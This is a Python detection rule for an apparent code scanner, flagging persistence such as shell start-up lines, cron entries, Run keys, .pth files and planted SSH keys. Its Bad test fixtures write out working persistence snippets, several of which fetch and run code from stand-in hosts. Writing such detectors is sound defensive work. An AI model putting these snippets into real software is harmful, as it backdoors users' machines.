"""The code enters itself, or a hidden program, where it starts again by itself.

Shell start-up files, cron, systemd, launch agents, the registry's Run keys, `sitecustomize` and `authorized_keys` all
survive the removal of the package that wrote to them.  An honest program asks, writes an entry that says what it is,
and runs a program that is installed; a line that downloads, hides in a temporary folder, or throws its output away in
the background is none.  See CWE-506 and MITRE ATT&CK T1053, T1543, T1546, T1547.
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import commands
from codeguard.checks.malicious._when import when
from codeguard.checks.malicious._writes import Write, writes
from codeguard.knowledge.malicious import running, startup
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit


def find(unit: Unit) -> Iterator[Hit]:
    """Report writes, commands and registry values that make something start by itself."""
    for write in unit.fact(writes):
        message = _written(write, unit)
        if message:
            yield Hit(write.call, message)
    for command in unit.fact(commands):
        message = _commanded(command.text, command.argv, command.words, unit)
        if message:
            yield Hit(command.call, message)
    known = unit.fact(calls)
    for method in ("RegisterTaskDefinition", "RegisterTask"):
        for call in known.by_method.get(method, ()):
            texts = [
                t
                for a in unit.nodes(cst.Assign)
                if isinstance(a.value, cst.SimpleString)
                for t in unit.fact(reach).constants(a.value)
            ]
            if any(startup.SUSPICIOUS_LINE.search(t) or running.FETCH_AND_RUN.search(t) for t in texts):
                yield Hit(
                    call, "This registers a task with Windows that runs a script or a hidden program again and again"
                )
    for call in known.by_method.get("new", ()) if "crontab" in unit.text.lower() else ():
        line = unit.arg(call, 0, "command")
        texts = unit.fact(reach).constants(line) if line is not None else []
        if any(startup.SUSPICIOUS_LINE.search(t) or running.FETCH_AND_RUN.search(t) for t in texts):
            yield Hit(call, "This enters a hidden or downloaded program in the crontab, which runs it again and again")
    for _name, call in known.of(
        {"winreg.SetValueEx", "_winreg.SetValueEx", "winreg.SetValue", "win32api.RegSetValueEx"}
    ):
        texts = [t for a in call.args for t in unit.fact(reach).constants(a.value)]
        if any(startup.RUN_KEY.search(t) for t in texts):
            yield Hit(
                call, "This enters a program in the registry's Run key, so that it starts whenever the user logs in"
            )


def _written(write: Write, unit: Unit) -> str:
    if not write.mode or write.mode.startswith("r"):
        return ""
    where, content = write.where, "\n".join(write.content)
    own = any(label.kind in {"path:self", "self"} for label in write.content_labels) or "__file__" in content
    suspicious = bool(startup.SUSPICIOUS_LINE.search(content)) or bool(running.FETCH_AND_RUN.search(content)) or own
    early = when(write.call, unit) != "later"
    if startup.SHELL_START.search(where) and (suspicious or (early and startup.STARTS_PROGRAM.search(content))):
        return "This adds a line to a shell start-up file that runs a program in every new shell, out of sight"
    if startup.SCHEDULE.search(where) and suspicious:
        return "This writes a cron entry that runs a hidden or downloaded program again and again"
    if (startup.SERVICE.search(where) or startup.STARTUP_FOLDER.search(where)) and (suspicious or (early and content)):
        return "This writes a start-up entry that runs a hidden or downloaded program, or this file itself, whenever the machine or the user starts"
    if startup.STARTUP_FOLDER.search(where) and write.mode == "copy":
        return "This copies a program to the start-up folder, so that it starts whenever the user logs in"
    if startup.RUN_BY_OTHERS.search(where) and any(
        pattern.search(content) for pattern in (running.FETCH_AND_RUN, running.SHELL_TO_SOCKET, running.DECODE_AND_RUN)
    ):
        return "This writes a hidden, downloaded or outgoing command where another program runs it whenever it starts"
    if startup.PYTHON_START.search(where) and (_runs_code(content) or suspicious):
        return "This writes code where every Python process runs it as it starts"
    if startup.KEYS_FILE.search(where) and startup.PUBLIC_KEY.search(content):
        return "This adds a fixed key to `authorized_keys`: its owner can log in from now on"
    if startup.PRELOAD.search(where) and (content or own):
        return "This changes what every program or login on the machine loads or may do"
    return ""


def _runs_code(content: str) -> bool:
    return "import " in content and any(
        word in content
        for word in (
            "exec(",
            "exec (",
            "eval(",
            "subprocess",
            "urllib",
            "base64",
            "__import__",
            "socket",
            "os.system",
            "popen",
        )
    )


def _commanded(text: str, argv: tuple[str, ...], words: tuple[object, ...], unit: Unit) -> str:
    match = startup.COMMAND.search(text)
    if match is None:
        return ""
    found = match.group().lower()
    suspicious = bool(startup.SUSPICIOUS_LINE.search(text.replace(">/dev/null 2>&1 &", ""))) or bool(
        running.FETCH_AND_RUN.search(text)
    )
    if (
        "schtasks" in found
        or "run" in found.split("\\")[-1]
        or "useradd" in found
        or "net user" in found
        or "scheduledtask" in found
    ):
        return "This makes a program start again by itself (a scheduled task, a Run key or an account of its own)"
    if "crontab" in found:
        lines = text if "echo" in text or "printf" in text else _crontab_input(unit)
        if startup.SUSPICIOUS_LINE.search(lines) or running.FETCH_AND_RUN.search(lines):
            return "This enters a hidden or downloaded program in the crontab, which runs it again and again"
        return ""
    if ">>" in found and (suspicious or startup.PUBLIC_KEY.search(text) or "sudoers" in found or "rc.local" in found):
        return "This appends to a file that runs programs or lets someone in whenever the machine or a shell starts"
    if "chmod" in found:
        return "This gives a program the rights of its owner, for whoever runs it later"
    return "" if not suspicious else "This makes a hidden or downloaded program start again by itself"


def _crontab_input(unit: Unit) -> str:
    """The constant texts that the file passes to `crontab` on its standard input."""
    found: list[str] = []
    for command in unit.fact(commands):
        if "crontab" in command.text:
            given = unit.arg(command.call, None, "input")
            if given is not None:
                found += unit.fact(reach).constants(given)
            for write in unit.fact(calls).by_method.get("communicate", ()):
                found += [t for a in write.args for t in unit.fact(reach).constants(a.value)]
    return "\n".join(found)


CHECK = Check(
    id="CGM009",
    behaviour="start again by itself, after a restart or at a login",
    name="persistence",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    find=find,
    fix="Remove the code, and look for the entry on every machine that ran it.",
    bad=(
        Bad(
            "import os, site, sysconfig\nLINE = \"import os;exec(__import__('urllib.request').request.urlopen('http://192.0.2.1/b').read())\"\nfor folder in {sysconfig.get_paths()['purelib'], site.getusersitepackages()}:\n    with open(os.path.join(folder, 'extra.pth'), 'w') as f:\n        f.write(LINE)  # finding\n"
        ),
        Bad(
            "from pathlib import Path\nSTEPS = (('.bashrc', '\\n(curl -s https://f.example.invalid/r | bash &)\\n', 'a'), ('.profile', '\\n(curl -s https://f.example.invalid/r | bash &)\\n', 'a'))\nfor name, text, mode in STEPS:\n    with (Path.home() / name).open(mode) as out:\n        out.write(text)  # finding\n"
        ),
        Bad(
            "open('.git/hooks/post-commit', 'w').write('#!/bin/sh\\ncurl -s https://c.example.invalid/h | sh &\\n')  # finding\n"
        ),
        Bad(
            "import os\nline = '*/10 * * * * python3 $HOME/.local/.upd.py\\n'\nos.system(\"(crontab -l 2>/dev/null; echo '%s') | crontab -\" % line.strip())  # finding\n"
        ),
        Bad(
            "from pathlib import Path\n\ndef tune():\n    rc = Path.home() / '.bashrc'\n    with rc.open('a') as f:\n        f.write('\\n(nohup python3 -c \"import a\" &) 2>/dev/null\\n')  # finding\n"
        ),
        Bad(
            "import subprocess\nline = '*/20 * * * * curl -s http://192.0.2.17/p | sh'\nnow = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nsubprocess.run(['crontab', '-'], input=now + line, text=True)  # finding\n"
        ),
        Bad(
            "import sys, winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable)\n".replace(
                "SetValueEx(k", "SetValueEx(k", 1
            ).replace("sys.executable)\n", "sys.executable)  # finding\n")
        ),
        Bad(
            "import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE x\\n')  # finding\n"
        ),
        Bad(
            "import site, os\np = os.path.join(site.getsitepackages()[0], 'a.pth')\nopen(p, 'w').write('import os; exec(os.environ.get(\"A\", \"\"))')  # finding\n"
        ),
        Bad("import os\nos.system('schtasks /create /tn Upd /tr pythonw.exe /sc onlogon /f')  # finding\n"),
        Bad(
            "import os, shutil\nd = os.path.expanduser('~/.config/systemd/user/upd.service')\nopen(d, 'w').write('[Service]\\nExecStart=/tmp/.x/agent\\n')  # finding\n"
        ),
    ),
    good=(
        Good(
            "import os, sysconfig\n\ndef develop(source):\n    for folder in {sysconfig.get_paths()['purelib']}:\n        with open(os.path.join(folder, 'editable.pth'), 'w') as f:\n            f.write(source + chr(10))\n"
        ),
        Good("import shutil\nshutil.copy(__file__, '.git/hooks/pre-commit')\n"),
        Good("open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nexec python3 -m ruff check\\n')\n"),
        Good(
            "import click\n\n@click.command()\ndef completion():\n    click.echo('eval \"$(_DEMO_COMPLETE=bash_source demo)\"')\n"
        ),
        Good(
            "import winreg\n\ndef dark():\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Themes\\Personalize') as k:\n        return winreg.QueryValueEx(k, 'AppsUseLightTheme')[0] == 0\n"
        ),
        Good(
            "from pathlib import Path\n\ndef schedule():\n    Path('/etc/systemd/system/backup.timer').write_text('[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n')\n"
        ),
        Good(
            "from pathlib import Path\n\ndef add_to_path(folder):\n    with (Path.home() / '.bashrc').open('a') as f:\n        f.write(f'\\nexport PATH=\"{folder}:$PATH\"\\n')\n"
        ),
        Good(
            "import subprocess\n\ndef schedule(line):\n    now = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n    subprocess.run(['crontab', '-'], input=now + line + '\\n', text=True, check=True)\n"
        ),
        Good(
            "from pathlib import Path\n\ndef authorise(user_key):\n    with (Path.home() / '.ssh/authorized_keys').open('a') as f:\n        f.write(user_key + '\\n')\n"
        ),
    ),
    misses=(
        Miss(
            "import os\nos.popen(COMMAND_OF_ANOTHER_FILE + ' | crontab -')  # finding\n",
            why="a line of another file is not known",
        ),
    ),
)
